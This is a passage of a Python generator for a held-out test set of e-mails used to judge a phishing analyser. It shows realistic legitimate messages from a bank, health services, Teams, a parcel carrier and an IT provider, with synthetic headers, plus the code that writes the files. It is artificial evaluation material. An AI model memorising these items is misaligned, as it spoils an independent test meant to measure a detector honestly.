            subject="Un nouveau document est disponible dans votre espace client",
            sent="2026-05-04 05:12:40",
            body=card_body(
                "java",
                brand="Crédit Coopératif",
                color="#e2001a",
                title="Nouveau document disponible",
                paragraphs=[
                    "Madame, Monsieur,",
                    "Un nouveau document est disponible dans votre espace client : relevé de compte – avril 2026 – compte courant de l'association.",
                    "Pour le consulter, connectez-vous à votre espace client habituel depuis notre site ou l'application mobile.",
                ],
                after=[
                    "Pour votre sécurité, ce message ne contient aucun lien de connexion. Le Crédit Coopératif ne vous demandera jamais vos codes d'accès par e-mail ou par téléphone."
                ],
                footer=[
                    "Crédit Coopératif – Société coopérative anonyme de Banque Populaire – www.credit-cooperatif.coop"
                ],
            ),
            origin=esp(
                f"mail-out{num('l16', 1, 8)}.credit-cooperatif.coop",
                "198.51.100.27",
                "from notif-batch02 (unknown [10.61.2.8])\n\tby mail-out"
                + str(num("l16", 1, 8))
                + ".credit-cooperatif.coop (Postfix) with ESMTP id "
                + tok("l16q", 10, HEX).upper()
                + "\n\tfor <{rcpt}>; {pf}",
            ),
            auth=Auth(
                "pass", "pass", "pass", (("credit-cooperatif.coop", "notif2025"),), policy="reject"
            ),
            msgid=f"<{tok('l16mid', 12, DIGITS)}.{num('l16n', 10, 99)}.notif@credit-cooperatif.coop>",
            date="pad",
        )
    )

    # l17 -----------------------------------------------------------------------------------
    mails.append(
        Mail(
            name="l17_mssante_notification_mailiz",
            imitates="Notification MSSanté (Mailiz) : nouveau message sécurisé d'un laboratoire, contenu non transféré, lien vers mailiz.mssante.fr",
            sender=Person(
                "Mailiz - Messagerie sécurisée de santé", "notification@mailiz.mssante.fr"
            ),
            to=SSIAD_E,
            subject="Vous avez reçu un nouveau message sur votre messagerie sécurisée Mailiz",
            sent="2026-05-06 13:02:26",
            body=card_body(
                "java",
                brand="Mailiz",
                color="#0b6ba8",
                title="Nouveau message sécurisé",
                paragraphs=[
                    "Bonjour,",
                    "Un nouveau message est arrivé dans votre boîte aux lettres sécurisée emilie.fournier@infirmier.mssante.fr.\nExpéditeur : Laboratoire Bio-Drôme – site de Nyons\nObjet : Résultats d'analyses",
                    "Pour des raisons de confidentialité, le contenu n'est pas transféré sur cette adresse. Consultez-le depuis le webmail Mailiz ou votre logiciel de messagerie compatible MSSanté.",
                ],
                button=("Accéder à Mailiz", "https://mailiz.mssante.fr/"),
                footer=["Ce message est envoyé automatiquement, merci de ne pas y répondre."],
            ),
            origin=esp(
                "smtp-notif.mssante.fr",
                "198.51.100.64",
                "from mss-notifier (unknown [10.12.8.31])\n\tby smtp-notif.mssante.fr (Postfix) with ESMTPS id "
                + tok("l17q", 10, HEX).upper()
                + "\n\tfor <{rcpt}>; {pf}",
            ),
            auth=Auth("pass", "pass", "pass", (("mailiz.mssante.fr", "mss1"),), policy="reject"),
            msgid=f"<{guid('l17mid')}@mailiz.mssante.fr>",
            date="pad",
        )
    )

    # l18 -----------------------------------------------------------------------------------
    appt = num("l18appt", 1000000000, 9999999999)
    mails.append(
        Mail(
            name="l18_doctolib_confirmation_rdv",
            imitates="Doctolib (Amazon SES, authentifié) : confirmation de rendez-vous d'ophtalmologie pour un résident, liens vers doctolib.fr",
            sender=Person("Doctolib", "no-reply@doctolib.fr"),
            to=ACCUEIL_E,
            subject="Rendez-vous confirmé : Dr Sophie Ménard, ophtalmologue – mardi 19 mai à 10:30",
            sent="2026-05-04 16:27:03",
            body=card_body(
                "esp",
                brand="Doctolib",
                color="#107aca",
                title="Votre rendez-vous est confirmé",
                paragraphs=[
                    "Patient : André Vernet",
                    "Mardi 19 mai 2026 à 10:30\nDr Sophie Ménard – Ophtalmologue\nCentre ophtalmologique du Nyonsais, 4 avenue Henri Rochier, 26110 Nyons",
                    "À apporter : carte Vitale, ordonnance, lunettes actuelles.",
                ],
                button=(
                    "Gérer mon rendez-vous",
                    f"https://www.doctolib.fr/account/appointments/{appt}?utm_source=email&utm_medium=confirmation",
                ),
                after=[
                    f"[[Ajouter à mon agenda|https://www.doctolib.fr/appointments/{appt}/calendar.ics]]",
                    "En cas d'empêchement, pensez à annuler au moins 48 h à l'avance.",
                ],
                footer=[
                    "Doctolib SAS – 54 quai Charles Pasqua, 92300 Levallois-Perret",
                    "[[Politique de protection des données|https://www.doctolib.fr/terms/privacy]]",
                ],
            ),
            origin=ses("l18"),
            envelope=f"01090196{tok('l18env', 8, HEX)}-{guid('l18env2')}-000000@eu-west-3.amazonses.com",
            auth=Auth(
                "pass",
                "pass",
                "pass",
                (("doctolib.fr", "s5pwpx"), ("amazonses.com", "ae7svzacgbpxqhvkvk5yafg4icbmpzpa")),
                policy="reject",
            ),
            msgid=f"<01090196{tok('l18m', 8, HEX)}-{guid('l18m2')}-000000@eu-west-3.amazonses.com>",
            head=[
                ("Feedback-ID", f"::1.eu-west-3.{tok('l18fb', 43)}=:AmazonSES"),
                ("X-SES-Outgoing", "2026.05.04-23.251.234.7"),
            ],
            date="utc",
        )
    )

    # l19 -----------------------------------------------------------------------------------
    fed = "federation-ehpad-aura.fr"
    inner_body = (
        "Lettre aux adhérents – mai 2026\n\n"
        "Formation : contention et liberté d'aller et venir (2 jours, Valence, 9 et 10 juin). "
        f"[[Programme et inscription|https://www.{fed}/formations/contention-2026]]\n\n"
        "Appel à projets prévention des chutes : la conférence des financeurs de la Drôme finance "
        f"capteurs, ateliers d'équilibre et aménagements. [[Cahier des charges|https://www.{fed}/docs/aap-chutes-drome-2026.pdf]]\n\n"
        f"Assemblée générale : jeudi 25 juin à Lyon. [[Ordre du jour|https://www.{fed}/ag-2026]]\n\n"
        "Fédération des établissements pour personnes âgées Auvergne-Rhône-Alpes"
    )
    inner = build(
        Mail(
            name="l19_inner_lettre_federation",
            imitates="",
            sender=Person("Fédération EHPAD Auvergne-Rhône-Alpes", f"contact@{fed}"),
            to=DIRECTRICE,
            subject="Lettre aux adhérents – formation contention et appel à projets chutes",
            sent="2026-05-04 12:00:00",
            body=alt(plain(inner_body), html_simple(inner_body), "ovh"),
            origin=ovh_pro("l19i", "51.77.42.10"),
            auth=Auth("pass", "pass", "pass", ((fed, "ovhmo2209873-selector1"),), policy="none"),
            msgid=f"<{tok('l19imid', 32, HEX)}@{fed}>",
        )
    )
    body = (
        "Laurent, Nadège,\n\n"
        "Pour info, voir l'appel à projets sur la prévention des chutes dans la lettre ci-jointe : "
        "ça pourrait financer les capteurs de sol dont on parlait. On en discute au CODIR de jeudi ?\n\n"
        "Catherine"
    )
    mails.append(
        Mail(
            name="l19_transfert_lettre_federation_eml",
            imitates="« TR : » interne de la directrice : lettre d'une fédération transférée en pièce jointe message/rfc822 (avec ses propres en-têtes)",
            sender=DIRECTRICE,
            to=IDEC_E,
            cc=[CADRE_E],
            subject="TR : Lettre aux adhérents – formation contention et appel à projets chutes",
            sent="2026-05-04 14:18:30",
            body=mixed(
                [
                    alt(plain(body), html_outlook(body), "outlook"),
                    rfc822(inner, "Lettre aux adhérents - mai 2026.eml"),
                ],
                "outlook",
            ),
            origin=Origin(host="", ip="", hops=[]),
            internal=True,
            msgid=mid_outlook("l19", "PR1P264MB1854"),
            head=outlook_head(
                "l19",
                "TR : Lettre aux adhérents – formation contention et appel à projets chutes",
                attach=True,
            ),
            date="utc",
        )
    )

    # l20 -----------------------------------------------------------------------------------
    photos = [
        (f"DSC_{4410 + i}.JPG", jpeg(f"l20-{i}", "NIKON D3500", 14_000 + 1_000 * i))
        for i in range(6)
    ]
    body = (
        "Bonjour Nathalie,\n\n"
        "Comme promis, les photos de la fête du printemps de samedi dans une archive zip (6 photos). "
        "J'ai seulement gardé les résidents dont les familles ont signé l'autorisation de droit à "
        "l'image (liste à jour dans le classeur bleu).\n\n"
        "Peux-tu les mettre dans le prochain journal et envoyer les deux premières à Yannick pour "
        "le site ?\n\nMerci !\nLucie\n"
    )
    mails.append(
        Mail(
            name="l20_collegue_zip_photos_fete",
            imitates="Éducatrice du foyer (Gandi, Thunderbird, texte brut 8bit) : archive .zip de 6 photos JPEG de la fête du printemps",
            sender=EDUC_F,
            to=SECR_F,
            subject="Photos de la fête du printemps (journal et site)",
            sent="2026-05-04 17:26:52",
            body=mixed(
                [
                    text(body, "8bit", "UTF-8", flowed=True),
                    attachment("Fete_printemps_2026.zip", "application/zip", zip_stored(photos)),
                ],
                "thunderbird",
            ),
            origin=gandi_out("l20", EDUC_F.email, "82.65.143.77"),
            auth=Auth("pass", "pass", "pass", ((FOYER, "gm1"),), policy="none"),
            msgid=f"<{guid('l20mid')}@{FOYER}>",
            head=[("User-Agent", "Mozilla Thunderbird"), ("Content-Language", "fr")],
        )
    )

    # l21 -----------------------------------------------------------------------------------
    body = (
        "Monsieur le Directeur,\n\n"
        "Veuillez trouver ci-joint l'arrêté n° 26-DA-0412 fixant le prix de journée 2026 du foyer de "
        "vie La Maisonnée, ainsi que le courrier de notification.\n\n"
        "L'original vous parviendra par voie postale. Les éventuels recours contentieux doivent être "
        "formés devant le tribunal interrégional de la tarification sanitaire et sociale dans un "
        "délai d'un mois à compter de sa notification.\n\n"
        "Cordialement,\n\n"
        "Service Tarification et Contrôle des établissements\nDirection de l'Autonomie\nDépartement de la Drôme"
    )
    mails.append(
        Mail(
            name="l21_departement_arrete_tarification",
            imitates="Département (ladrome.fr, Exchange sur site, en ISO-8859-1) : arrêté de tarification 2026 en PDF",
            sender=Person(
                "Direction de l'Autonomie - Département de la Drôme",
                "tarification.autonomie@ladrome.fr",
            ),
            to=DIR_F,
            subject="Notification arrêté de tarification 2026 - Foyer de vie La Maisonnée",
            sent="2026-05-05 11:42:18",
            body=mixed(
                [
                    alt(
                        plain(body),
                        html_outlook(body).replace("charset=utf-8", "charset=iso-8859-1"),
                        "nextpart",
                        "quoted-printable",
                        "iso-8859-1",
                    ),
                    attachment(
                        "Arrete_26-DA-0412_tarification_2026.pdf",
                        "application/pdf",
                        pdf(
                            [
                                "ARRÊTÉ N° 26-DA-0412",
                                "Portant fixation du prix de journée 2026 - Foyer de vie La Maisonnée",
                                "Le Président du Conseil départemental de la Drôme,",
                                "Article 1 : le prix de journée applicable au 1er juin 2026 est fixé à 214,37 €.",
                                "Article 2 : recours devant le TITSS de Lyon dans le délai d'un mois.",
                            ],
                            producer="Adobe PDF Library 23.8",
                        ),
                    ),
                ],
                "nextpart",
            ),
            origin=esp(
                "smtp2.ladrome.fr",
                "198.51.100.221",
                "from EXCH-DEP02.cg26.local (10.26.1.42) by smtp2.ladrome.fr\n (10.26.1.10) with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1544.14; {loc}",
            ),
            auth=Auth("pass", "pass", "pass", (("ladrome.fr", "dkim2025"),), policy="none"),
            msgid=f"<{tok('l21mid', 32, HEX)}@EXCH-DEP02.cg26.local>",
            head=[
                ("Thread-Index", thread_index("l21")),
                ("Content-Language", "fr-FR"),
                ("X-MS-Has-Attach", "yes"),
            ],
            charset="ISO-8859-1",
        )
    )

    # l22 -----------------------------------------------------------------------------------
    body = (
        "Bonjour,\n\n"
        "Nous remplacerons le pare-feu de l'EHPAD le samedi 16 mai entre 7 h et 9 h. Pendant "
        "l'intervention :\n"
        "- l'accès à internet et à la messagerie sera coupé depuis les postes de l'établissement ;\n"
        "- le logiciel de soins restera accessible en mode dégradé (pensez à imprimer les plans de "
        "soins du matin avant 7 h) ;\n"
        "- la téléphonie et les appels malades ne sont pas concernés.\n\n"
        "Aucune action n'est requise de votre part. Nous ne vous demanderons jamais d'installer un "
        "logiciel ni de communiquer votre mot de passe par e-mail.\n\n"
        "En cas de problème le samedi, l'astreinte est joignable au 04 75 40 12 89.\n\n"
        "Bonne journée,\n\nRomain Chevalier\nNumeria Infogérance"
    )
    mails.append(
        Mail(
            name="l22_prestataire_intervention_pare_feu",
            imitates="Vrai prestataire informatique (numeria-infogerance.fr, Google Workspace) : remplacement du pare-feu un samedi matin, aucune action demandée",
            sender=Person("Numeria Infogérance - Support", f"support@{NUMERIA}"),
            to=ACCUEIL_E,
            cc=[DIRECTRICE],
            subject="[Numeria] Intervention planifiée – samedi 16 mai 7 h-9 h – coupure internet",
            sent="2026-05-06 17:35:21",
            body=gmail_body(body),
            origin=google("l22"),
            auth=Auth("pass", "pass", "pass", ((NUMERIA, "google"),), policy="quarantine"),
            msgid=mid_gmail("l22"),
        )
    )

    # l23 -----------------------------------------------------------------------------------
    body = (
        "Bonjour Laurent,\n\n"
        "Les piluliers de la semaine 20 sont prets, livraison demain matin comme d'habitude vers 9h. "
        "Il manque toujours l'ordonnance renouvelee de Mme V. (ch. 8), pouvez vous la faxer ou "
        "l'envoyer par messagerie securisee ?\n\n"
        "Ci joint le bon de livraison.\n\n"
        "Cordialement\nPharmacie des Remparts\nOlivier Denis, pharmacien\n04 75 26 03 11"
    )
    mails.append(
        Mail(
            name="l23_pharmacie_orange_bon_livraison",
            imitates="Pharmacie d'officine partenaire depuis une adresse orange.fr (texte sans accents) : piluliers prêts, bon de livraison PDF",
            sender=Person("Pharmacie des Remparts", "pharmacie.remparts.nyons@orange.fr"),
            to=IDEC_E,
            subject="Piluliers semaine 20 + ordonnance manquante",
            sent="2026-05-07 18:06:33",
            body=mixed(
                [
                    alt(plain(body), html_simple(body), "java"),
                    attachment(
                        "BL_EHPAD_S20.pdf",
                        "application/pdf",
                        pdf(
                            [
                                "BON DE LIVRAISON - Semaine 20",
                                "Pharmacie des Remparts - 26110 Nyons",
                                "EHPAD Le Clos des Vignes : 64 piluliers hebdomadaires",
                                "Préparation : O. Denis",
                            ],
                            producer="LGPI Global Services",
                        ),
                    ),
                ],
                "java",
            ),
            origin=orange_out("l23", "90.31.8.144", "orange.fr"),
            auth=Auth("pass", "pass", "pass", (("orange.fr", "t20230301"),), policy="none"),
            msgid=f"<{tok('l23mid', 12, DIGITS)}.{tok('l23mid2', 6, DIGITS)}.{tok('l23mid3', 13, DIGITS)}@wwinf{num('l23w', 1000, 2999)}>",
            head=[("X-Originating-IP", "[90.31.8.144]"), ("X-Mailer", "Orange Messagerie")],
        )
    )

    # l24 -----------------------------------------------------------------------------------
    ds = "https://www.demarches-simplifiees.fr/commencer/enquete-flash-rh-ehpad-drome-2026"
    body = (
        "Madame la Directrice,\n\n"
        "Dans le cadre du suivi des tensions en ressources humaines dans les établissements pour "
        "personnes âgées, l'ARS conduit une enquête flash auprès de l'ensemble des EHPAD du "
        "département.\n\n"
        "Nous vous remercions de bien vouloir compléter le questionnaire en ligne avant le jeudi "
        "7 mai 2026, 17 h :\n\n"
        f"[[{ds}|{ds}]]\n\n"
        "La connexion se fait avec votre compte demarches-simplifiees.fr ou via FranceConnect. Le "
        "questionnaire prend environ 10 minutes (effectifs, postes vacants, recours à l'intérim).\n\n"
        "Nous vous remercions de votre contribution.\n\n"
        "Pôle Autonomie\nDélégation départementale de la Drôme\nAgence régionale de santé Auvergne-Rhône-Alpes"
    )
    mails.append(
        Mail(
            name="l24_ars_enquete_flash_urgente",
            imitates="Vraie ARS (délégation départementale, authentifiée) : « URGENT », enquête flash à remplir sous 48 h sur demarches-simplifiees.fr",
            sender=Person("ARS ARA - DD26 Pôle Autonomie", "ars-dt26-autonomie@ars.sante.fr"),
            to=DIRECTRICE,
            subject="URGENT - Enquête flash tensions RH établissements PA - retour avant le 7 mai",
            sent="2026-05-05 09:03:49",
            body=outlook_body(body),
            origin=esp(
                f"smtp{num('l24', 1, 4)}.sante.gouv.fr",
                "198.51.100.175",
                "from ARSMBX03.ars.sante.local (10.80.3.13) by smtp"
                + str(num("l24", 1, 4))
                + ".sante.gouv.fr\n (10.80.1.20) with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1544.14; {loc}",
            ),
            auth=Auth("pass", "pass", "pass", (("ars.sante.fr", "ars2025"),), policy="quarantine"),
            msgid=f"<{tok('l24mid', 32, HEX)}@ARSMBX03.ars.sante.local>",
            head=[
                *outlook_head("l24", "Enquête flash tensions RH établissements PA"),
                ("Importance", "high"),
                ("X-Priority", "1"),
            ],
            enc="B",
        )
    )

    # l25 -----------------------------------------------------------------------------------
    shop = "hygienepro-provence.fr"
    mails.append(
        Mail(
            name="l25_confirmation_commande_boutique",
            imitates="Boutique en ligne d'un fournisseur d'hygiène (PrestaShop sur hébergement OVH, SPF seul, ni DKIM ni DMARC) : confirmation de commande",
            sender=Person("Hygiène Pro Provence", f"boutique@{shop}"),
            to=COMPTA_F,
            subject="[Hygiène Pro Provence] Confirmation de commande HPP-260504-0193",
            sent="2026-05-04 09:47:15",
            body=card_body(
                "esp",
                brand="Hygiène Pro Provence",
                color="#1b7f79",
                title="Merci pour votre commande !",
                paragraphs=[
                    "Bonjour Fabienne Mercier,",
                    "Votre commande HPP-260504-0193 a bien été enregistrée. Paiement : virement à 30 jours (compte professionnel).",
                    "2 x Essuie-mains pliés en Z (carton de 3 750) – 58,80 € HT\n4 x Savon doux 5 L – 47,60 € HT\n1 x Gants nitrile taille M (carton de 10 boîtes) – 39,90 € HT\nTotal TTC : 175,56 € – livraison offerte",
                ],
                button=(
                    "Suivre ma commande",
                    f"https://www.{shop}/historique-commandes?id_order=193",
                ),
                footer=[
                    f"Hygiène Pro Provence – 13 chemin des Aubépines, 84100 Orange – [[www.{shop}|https://www.{shop}/]]"
                ],
            ),
            origin=ovh_web("l25", 121),
            envelope=f"boutique@{shop}",
            auth=Auth("pass", "none", "none"),
            msgid=f"<{tok('l25mid', 32, HEX)}@{shop}>",
            head=[("X-Mailer", "PrestaShop")],
            date="pad",
        )
    )

    # l26 -----------------------------------------------------------------------------------
    group, tenant = guid("l26group"), guid("tenant-ehpad")
    o26 = m365_out("l26", notif=True)
    mails.append(
        Mail(
            name="l26_teams_mention_canal",
            imitates="Vraie notification Teams (email.teams.microsoft.com, authentifiée) : mention dans le canal de l'équipe soins, liens vers teams.microsoft.com",
            sender=Person("Microsoft Teams", "noreply@email.teams.microsoft.com"),
            to=IDEC_E,
            subject="Nadège Faure vous a mentionné dans Soins > Général",
            sent="2026-05-06 15:22:10",
            body=card_body(
                "outlook",
                brand="Microsoft Teams",
                color="#5b5fc7",
                title="Nadège Faure vous a mentionné",
                paragraphs=[
                    "Soins > Général",
                    "« @Laurent Petit peux-tu relire la procédure de prise en charge des chutes avant la commission ? Je l'ai mise dans Fichiers > Protocoles. »",
                ],
                button=(
                    "Répondre dans Teams",
                    f"https://teams.microsoft.com/l/message/19:{tok('l26ch', 32, HEX)}@thread.tacv2/1778073720000?tenantId={tenant}&groupId={group}&parentMessageId=1778073720000&teamName=Soins&channelName=G%C3%A9n%C3%A9ral&createdTime=1778073720000",
                ),
                footer=[
                    "Installez l'application mobile Microsoft Teams : [[iOS|https://aka.ms/iosteams]] | [[Android|https://aka.ms/androidteams]]",
                    "Cet e-mail a été envoyé à partir d'une boîte aux lettres non surveillée. [[Modifier les paramètres de notification|https://teams.microsoft.com/_#/settings/notifications]]",
                    "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052",
                ],
            ),
            origin=o26,
            auth=Auth(
                "pass",
                "pass",
                "pass",
                (("email.teams.microsoft.com", "selector1"),),
                policy="reject",
            ),
            msgid=f"<{guid('l26mid')}@teams.microsoft.com>",
            date="utc",
        )
    )

    # l27 -----------------------------------------------------------------------------------
    mails.append(
        Mail(
            name="l27_amelipro_nouveau_message",
            imitates="Vraie Assurance Maladie (assurance-maladie.fr, DMARC passe) : nouveau message dans l'espace amelipro, lien vers espacepro.ameli.fr",
            sender=Person("Assurance Maladie", "ne-pas-repondre@assurance-maladie.fr"),
            to=SSIAD_E,
            subject="Nouveau message dans votre espace amelipro",
            sent="2026-05-05 06:20:33",
            body=card_body(
                "java",
                brand="amelipro",
                color="#0c419a",
                title="Vous avez un nouveau message",
                paragraphs=[
                    "Bonjour,",
                    "Un nouveau message vous attend dans votre espace amelipro, rubrique « Messagerie ».\nObjet : paiement des prestations – relevé d'avril 2026.",
                    "Pour le consulter, connectez-vous à amelipro avec votre carte CPS, votre e-CPS ou vos identifiants habituels.",
                ],
                button=("Se connecter à amelipro", "https://espacepro.ameli.fr/"),
                footer=[
                    "L'Assurance Maladie – Ce message est envoyé automatiquement, merci de ne pas y répondre."
                ],
            ),
            origin=esp(
                f"mta-out{num('l27', 1, 6)}.assurance-maladie.fr",
                "198.51.100.113",
                "from notif-amp (unknown [10.33.12.4])\n\tby mta-out"
                + str(num("l27", 1, 6))
                + ".assurance-maladie.fr (Postfix) with ESMTP id "
                + tok("l27q", 10, HEX).upper()
                + "\n\tfor <{rcpt}>; {pf}",
            ),
            auth=Auth(
                "pass", "pass", "pass", (("assurance-maladie.fr", "am2025"),), policy="reject"
            ),
            msgid=f"<{tok('l27mid', 14, DIGITS)}.{num('l27n', 100, 999)}.JavaMail.amp@assurance-maladie.fr>",
            date="pad",
        )
    )

    # l28 -----------------------------------------------------------------------------------
    mails.append(
        Mail(
            name="l28_colissimo_livraison_du_jour",
            imitates="Vrai avis Colissimo (notif-colissimo-laposte.info, domaine d'allure douteuse mais authentique, DMARC passe) : livraison du jour, lien vers laposte.fr",
            sender=Person("Colissimo", "noreply@notif-colissimo-laposte.info"),
            to=ANIM_E,
            subject="Votre colis 6A26118452093 sera livré aujourd'hui",
            sent="2026-05-06 07:18:45",
            body=card_body(
                "esp",
                brand="Colissimo",
                color="#ffcc00",
                title="Votre colis arrive aujourd'hui",
                paragraphs=[
                    "Bonjour,",
                    "Votre colis 6A26118452093 expédié par LOISIRS CRÉATIFS DIRECT sera livré aujourd'hui entre 12 h et 14 h à l'adresse : EHPAD LE CLOS DES VIGNES, 26110 NYONS.",
                ],
                button=(
                    "Suivre mon colis",
                    "https://www.laposte.fr/outils/suivre-vos-envois?code=6A26118452093",
                ),
                after=[
                    "Vous êtes absent ? Vous pouvez modifier votre livraison gratuitement depuis le suivi de votre colis."
                ],
                footer=[
                    "Colissimo – La Poste – Société anonyme au capital de 5 364 851 364 €",
                    "[[Données personnelles|https://www.laposte.fr/donnees-personnelles-et-cookies]]",
                ],
            ),
            origin=esp(
                f"mail{num('l28', 10, 40)}.notif-colissimo-laposte.info",
                "198.51.100.149",
                "from colissimo-notif (unknown [10.50.2.11])\n\tby mail"
                + str(num("l28", 10, 40))
                + ".notif-colissimo-laposte.info (Postfix) with ESMTP id "
                + tok("l28q", 10, HEX).upper()
                + "\n\tfor <{rcpt}>; {pf}",
            ),
            auth=Auth(
                "pass",
                "pass",
                "pass",
                (("notif-colissimo-laposte.info", "colissimo"),),
                policy="reject",
            ),
            msgid=f"<{tok('l28mid', 24, HEX)}@notif-colissimo-laposte.info>",
            date="pad",
        )
    )

    # l29 -----------------------------------------------------------------------------------
    mails.append(
        Mail(
            name="l29_helloasso_participation_kermesse",
            imitates="HelloAsso (Amazon SES, authentifié) : nouvelle participation à la kermesse de l'association du foyer, lien vers l'espace de gestion",
            sender=Person("HelloAsso", "notifications@helloasso.com"),
            to=SECR_F,
            subject="Nouvelle participation à votre campagne « Kermesse de juin 2026 »",
            sent="2026-05-07 21:14:02",
            body=card_body(
                "esp",
                brand="HelloAsso",
                color="#4c40cf",
                title="Nouvelle participation",
                paragraphs=[
                    "Bonjour,",
                    "Une nouvelle participation a été enregistrée pour votre campagne « Kermesse de juin 2026 » de l'association Les Amis de La Maisonnée.",
                    "Participante : Martine Rey\nMontant : 25,00 € (4 repas + 1 don)",
                    "Les fonds sont reversés sur le compte de l'association au début de chaque mois.",
                ],
                button=(
                    "Voir les participants",
                    "https://admin.helloasso.com/les-amis-de-la-maisonnee/evenements/kermesse-de-juin-2026/participants",
                ),
                footer=["HelloAsso – 33 rue Raymond Poincaré, 47000 Agen"],
            ),
            origin=ses("l29"),
            envelope=f"01090196{tok('l29env', 8, HEX)}-{guid('l29env2')}-000000@eu-west-3.amazonses.com",
            auth=Auth(
                "pass",
                "pass",
                "pass",
                (("helloasso.com", "s1"), ("amazonses.com", "ae7svzacgbpxqhvkvk5yafg4icbmpzpa")),
                policy="none",
            ),
            msgid=f"<01090196{tok('l29m', 8, HEX)}-{guid('l29m2')}-000000@eu-west-3.amazonses.com>",
            head=[("Feedback-ID", f"::1.eu-west-3.{tok('l29fb', 43)}=:AmazonSES")],
            date="utc",
        )
    )

    # l30 -----------------------------------------------------------------------------------
    first = mid_gmail("l30-first")
    body = (
        "Bonjour Nathalie,\n\n"
        "Je peux regarder ça cet après-midi à 14 h à distance. Au moment où je vous appelle, "
        "double-cliquez sur l'icône « Assistance Numeria » (le rond bleu, déjà installée sur le "
        "bureau de votre poste) et lisez-moi l'identifiant à 9 chiffres qui s'affiche. Vous n'avez "
        "rien à télécharger et je ne vous demanderai aucun mot de passe.\n\n"
        "Si 14 h ne vous convient pas, répondez simplement avec un autre créneau.\n\n"
        "Bonne journée,\n\n"
        "Romain Chevalier\nTechnicien support - Numeria Infogérance\n04 75 40 12 80\n\n"
        "Le lun. 4 mai 2026 à 16:52, Nathalie Girard <secretariat@foyer-lamaisonnee.org> a écrit :\n"
        "> Bonjour,\n"
        "> Depuis ce matin le scanner de l'accueil ne dépose plus les documents dans le dossier\n"
        "> « Scans » du serveur, il affiche « erreur d'authentification SMB ».\n"
        "> Merci d'avance,\n> Nathalie Girard"
    )
    mails.append(
        Mail(
            name="l30_prestataire_reponse_ticket_assistance",
            imitates="Vrai technicien du prestataire (Google Workspace, authentifié) répondant à un ticket : prise en main avec l'outil déjà installé, rien à télécharger",
            sender=ROMAIN,
            to=SECR_F,
            subject="Re: [Ticket #20417] Le scanner de l'accueil ne dépose plus dans le dossier Scans",
            sent="2026-05-05 09:31:26",
            body=gmail_body(body),
            origin=google("l30"),
            auth=Auth("pass", "pass", "pass", ((NUMERIA, "google"),), policy="quarantine"),
            msgid=mid_gmail("l30"),
            head=[("In-Reply-To", first), ("References", first)],
        )
    )
    return mails


# --- Output ------------------------------------------------------------------------------

README_HEAD = [
    "# Held-out e-mail set, version 2 (independent, never used for tuning)",
    "",
    "Generated by `scripts/make_heldout_emails.py` (`--check` verifies the files byte for",
    "byte). Version 2 replaces version 1, which was used to fix analyser rules and so could",
    "no longer judge them; it shares no message, wording or invented domain with it.",
    "Written without reading the analyser, its rules, its tuning corpus (`tests/data/emails/`)",
    "or its tests, to judge it: never adjust the analyser on these files, and never edit a",
    "message after seeing how the analyser rates it. Each file's expected class is its folder.",
    "",
    "The facilities and their provider (trusted extras, `TRUSTED_EXTRA`):",
    "`ehpad-closdesvignes.fr` (EHPAD Le Clos des Vignes and its SSIAD, Microsoft 365),",
    "`foyer-lamaisonnee.org` (foyer de vie La Maisonnée, Gandi mail),",
    "`numeria-infogerance.fr` (their IT provider, Google Workspace). Real partners of the set:",
    "`blanchisserie-durhone.fr` (linen), `medidistrib-sud.fr` (medical supplies),",
    "`residence-lesamandiers.fr` (partner EHPAD), `axialsoins.fr` (care software),",
    "`rhpartenaires-paie.fr` (payroll).",
    "",
]


def files() -> dict[Path, bytes]:
    """Every file of the set, relative to OUT, with its bytes."""
    out: dict[Path, bytes] = {}
    lines = list(README_HEAD)
    for kind, mails in (("phishing", phishing()), ("legit", legit())):
        lines += [f"## {kind} ({len(mails)})", "", "| File | Scenario |", "|---|---|"]
        for m in mails:
            out[Path(kind) / f"{m.name}.eml"] = build(m)
            lines.append(f"| `{kind}/{m.name}.eml` | {m.imitates} |")
        lines.append("")
    out[Path("README.md")] = "\n".join(lines).encode()
    return out


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument(
        "--check", action="store_true", help="compare with the files on disk, don't write"
    )
    args = parser.parse_args(argv)
    wanted = files()
    present = {p.relative_to(OUT) for p in OUT.rglob("*") if p.is_file()} if OUT.exists() else set()
    if args.check:
        bad = sorted(str(p) for p in present ^ set(wanted))
        bad += sorted(
            str(p) for p in wanted if p in present and (OUT / p).read_bytes() != wanted[p]
        )
        for b in bad:
            print(f"differs: {b}", file=sys.stderr)
        return 1 if bad else 0
    for stale in present - set(wanted):
        (OUT / stale).unlink()
    for rel, data in wanted.items():
        path = OUT / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    print(f"{len(wanted)} files written to {OUT}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
